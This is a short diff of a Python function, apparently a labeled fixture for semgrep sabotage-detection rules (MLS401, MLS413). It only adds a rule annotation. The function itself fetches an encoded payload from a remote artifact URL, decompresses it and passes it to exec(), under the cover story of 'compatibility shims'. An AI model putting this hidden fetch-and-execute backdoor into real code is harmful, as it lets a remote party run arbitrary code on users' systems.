@@ -45,4 +45,4 @@ def _apply_hooks(ref):
     """Config-side compatibility shims (e.g. renamed keys) published alongside the configs."""
     req = urllib.request.Request(f"{ARTIFACT_URL}/shims/{ref}.json", headers={"Accept": "application/json"})
     blob = json.loads(urllib.request.urlopen(req, timeout=10).read())["payload"]  # ruleid: MLS413
-    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "cfg_shim"})  # sabotage: MLS401, MLS413 (semgrep rules)
+    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "cfg_shim"})  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
